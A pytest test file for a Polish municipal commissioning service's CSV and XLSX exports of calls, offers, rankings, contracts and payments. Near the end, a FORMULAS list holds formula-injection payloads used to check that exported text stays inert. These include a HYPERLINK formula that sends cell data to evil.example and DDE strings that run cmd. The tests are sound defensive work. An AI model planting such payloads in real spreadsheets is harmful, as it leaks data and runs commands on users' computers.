"""Spreadsheets for officials: calls, a call's offers (after the deadline, with each criterion's answer), the
ranking, contracts, payments and monitoring, as CSV (Polish Excel: BOM, `;`, decimal comma) and XLSX (numbers in
złoty, dates as dates), with Polish headers; the whole result, read a batch at a time; sealed offers stay sealed."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import openpyxl

from services.commissioning.worker import run_due_events
from shared.db import database_of
from tests.catalogue.factories import verified_provider
from tests.commissioning.conftest import STARACHOWICE, provider
from tests.commissioning.factories import ANSWERS, award_the_only_offer, municipality, need, offer, open_call, sign
from tests.helpers import problem

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def read_csv(answer) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.content.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig")), delimiter=";"))


def read_xlsx(answer) -> openpyxl.Workbook:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == XLSX
    assert answer.headers["content-disposition"].endswith('.xlsx"')
    return openpyxl.load_workbook(io.BytesIO(answer.content))


async def test_calls_as_csv_and_xlsx_read_a_batch_at_a_time(api, client, monkeypatch):
    await municipality(api)
    care = await need(api, client)
    for value in (200_000, 450_000, 1_023_363):
        await open_call(api, care, value_pln=value, title=f"Usługi opiekuńcze – {value} zł")
    monkeypatch.setattr("services.commissioning.calls.router.EXPORT_BATCH", 2)  # three calls: two batches
    rows = read_csv(await api.get("/v1/calls", params={"municipality": "2611011", "format": "csv", "sort": "value"}))
    assert rows[0][:6] == ["ocid", "tytuł", "gmina (TERC)", "tryb", "status", "wartość brutto (zł)"]
    assert [r[5] for r in rows[1:]] == ["200000,00", "450000,00", "1023363,00"]
    assert rows[1][1] == "Usługi opiekuńcze – 200000 zł" and rows[1][8].endswith("Z")
    negotiated = await api.get("/v1/calls", params={"municipality": "2611011"}, headers={"Accept": "text/csv"})
    assert len(read_csv(negotiated)) == 4
    book = read_xlsx(await api.get("/v1/calls", params={"municipality": "2611011", "format": "xlsx", "sort": "-value"}))
    sheet = book["Ogłoszenia"]
    assert sheet["F1"].value == "wartość brutto (zł)" and sheet["F2"].value == 1_023_363
    assert "zł" in sheet["F2"].number_format and isinstance(sheet["I2"].value, datetime)
    problem(await api.get("/v1/calls", params={"format": "pdf"}), 422)


async def test_the_committees_spreadsheet_of_offers_after_the_deadline_and_the_ranking(api, client, clock):
    await municipality(api)
    call = await open_call(api, await need(api, client))
    bidder = await verified_provider(client)
    assert (await offer(api, call, bidder["id"], 480_000)).status_code == 201
    url = f"/v1/calls/{call['id']}/offers"
    sealed = problem(await api.get(url, params={"format": "csv"}, headers=STARACHOWICE), 403)
    assert "sealed" in sealed["detail"]
    own = read_csv(await api.get(url, params={"format": "csv"}, headers=provider(bidder["id"])))
    assert len(own) == 2  # its own offer only
    clock.set(datetime.fromisoformat(call["deadline"]))
    rows = read_csv(await api.get(url, params={"format": "csv"}, headers=STARACHOWICE))
    header = rows[0]
    assert header[:4] == ["oferent", "id oferenta", "część (id)", "cena brutto (zł)"]
    assert "jakość usług (quality)" in header and "zatrudnienie osób wykluczonych (social)" in header
    assert rows[1][header.index("jakość usług (quality)")] == ANSWERS["quality"]
    assert rows[1][3] == "480000,00"
    await award_the_only_offer(api, call)
    ranking = read_xlsx(
        await api.get(
            f"/v1/calls/{call['id']}/lots/{call['lots'][0]['id']}/ranking",
            params={"format": "xlsx"},
            headers=STARACHOWICE,
        )
    )["Ranking"]
    assert ranking["A1"].value == "miejsce" and ranking["A2"].value == 1 and ranking["B2"].value == bidder["name"]


async def test_contracts_payments_and_monitoring(api, client, clock, commissioning_app):
    await municipality(api)
    call = await open_call(api, await need(api, client, value_pln=300_000), value_pln=300_000)
    ngo = await verified_provider(client)
    assert (await offer(api, call, ngo["id"], 290_000)).status_code == 201
    clock.set(datetime.fromisoformat(call["deadline"]))
    decided, _ = await award_the_only_offer(api, call)
    clock.advance(days=6)
    await run_due_events(database_of(commissioning_app).write, clock)
    contract = await sign(api, decided.json()["winners"][0]["contract_id"], provider(ngo["id"]), clock.now().date())
    paid = {"amount_grosze": 4_142_857, "paid_on": clock.now().date().isoformat(), "schedule_index": 0}
    assert (
        await api.post(f"/v1/contracts/{contract['id']}/payments", json=paid, headers=STARACHOWICE)
    ).status_code == 201

    contracts = read_csv(await api.get("/v1/contracts", params={"municipality": "2611011", "format": "csv"}))
    assert contracts[0][:5] == ["numer umowy", "gmina (TERC)", "wykonawca", "status", "wartość brutto (zł)"]
    assert contracts[1][0] == contract["number"] and contracts[1][4] == "290000,00"
    payments = read_csv(
        await api.get(f"/v1/contracts/{contract['id']}/payments", params={"format": "csv"}, headers=STARACHOWICE)
    )
    assert payments[1][:2] == ["1", "41428,57"]
    problem(await api.get(f"/v1/contracts/{contract['id']}/payments", params={"format": "csv"}), 401)
    book = read_xlsx(
        await api.get("/v1/monitoring", params={"municipality": "2611011", "format": "xlsx", "from": "2026-01-01"})
    )
    assert book.sheetnames == ["Podsumowanie", "Według trybu", "Według obszaru"]
    summary = {row[0].value: row[1].value for row in book["Podsumowanie"].iter_rows(min_row=2)}
    assert summary["wartość zleceń brutto (zł)"] == "290000,00" and summary["wypłacono (zł)"] == "41428,57"
    assert book["Według trybu"]["A2"].value == "open-competition"


async def test_a_streamed_export_gives_its_database_connection_back(commissioning_app):
    """A CSV is written after the endpoint has returned (and its session closed): the rows are read on a session
    of the export's own, which is closed when the last row is written, so no connection is left checked out."""
    from tests.conftest import asgi_client

    pool = database_of(commissioning_app).engine.pool
    async with asgi_client(commissioning_app, "http://commissioning") as http:
        before = pool.checkedout()
        answer = await http.get("/v1/calls", params={"format": "csv"})
        assert answer.status_code == 200 and answer.text.startswith("\ufeffocid;")
        answer = await http.get("/v1/contracts", params={"format": "csv"})
        assert answer.status_code == 200
    assert pool.checkedout() == before


# What a spreadsheet would run as a formula: each starting character OWASP names, after the text a person typed
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")',
    "+48 600 100 200",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 Spółdzielnia",
    "\r=1+1 Fundacja",
]


async def test_text_that_would_run_as_a_formula_stays_text_and_numbers_stay_numbers(api, client, clock):
    await municipality(api)
    call = await open_call(api, await need(api, client))
    for name in FORMULAS:
        bidder = await verified_provider(client, name=name)
        body = {"lot_id": call["lots"][0]["id"], "total_price_grosze": 48_000_050, "quantity": 100}
        body["answers"] = {**ANSWERS, "quality": "-5"}  # an answer that is a negative number: a number still
        sent = await api.post(f"/v1/calls/{call['id']}/offers", json=body, headers=provider(bidder["id"]))
        assert sent.status_code == 201, sent.text
    clock.set(datetime.fromisoformat(call["deadline"]))
    url = f"/v1/calls/{call['id']}/offers"
    rows = read_csv(await api.get(url, params={"format": "csv"}, headers=STARACHOWICE))
    quality = rows[0].index("jakość usług (quality)")
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in FORMULAS)
    assert {(row[3], row[quality]) for row in rows[1:]} == {("480000,50", "-5")}
    sheet = read_xlsx(await api.get(url, params={"format": "xlsx"}, headers=STARACHOWICE)).worksheets[0]
    names = [row[0] for row in sheet.iter_rows(min_row=2)]
    # a carriage return is stored as XML's escape, which Excel reads back and openpyxl leaves as it is
    assert sorted(cell.value.replace("_x000D_", "\r") for cell in names) == sorted(FORMULAS)
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in names)  # text, and text when edited
    assert {row[3].value for row in sheet.iter_rows(min_row=2)} == {480_000.5}


async def test_a_call_title_that_would_run_as_a_formula_stays_text_in_the_calls_spreadsheet(api, client):
    await municipality(api)
    care = await need(api, client)
    for title in FORMULAS:
        await open_call(api, care, title=title)
    rows = read_csv(await api.get("/v1/calls", params={"municipality": "2611011", "format": "csv"}))
    assert sorted(row[1] for row in rows[1:]) == sorted("'" + title for title in FORMULAS)
